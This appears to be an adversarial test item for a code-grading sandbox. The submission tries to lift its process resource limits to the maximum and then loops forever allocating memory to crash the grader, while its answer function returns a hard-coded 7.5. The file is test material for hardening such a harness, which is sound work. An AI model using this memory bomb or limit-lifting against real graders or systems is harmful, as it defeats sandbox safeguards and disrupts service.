# attack: takes away its limits, then fills the memory in the answer's cell
# question: label_bits
# naive: crash
# item: bombs

# %% question="label_bits"
import resource

for name in ("DATA", "AS", "NPROC", "FSIZE", "CPU", "NOFILE", "STACK", "MEMLOCK"):
    kind = getattr(resource, f"RLIMIT_{name}")
    for limit in ((resource.RLIM_INFINITY,) * 2, (resource.getrlimit(kind)[1],) * 2):
        try:
            resource.setrlimit(kind, limit)
        except (OSError, ValueError):
            pass
kept = []
while True:
    try:
        kept.append(bytearray(b"x" * 50_000_000))
    except BaseException:
        pass


def label_bits(labels):
    return 7.5
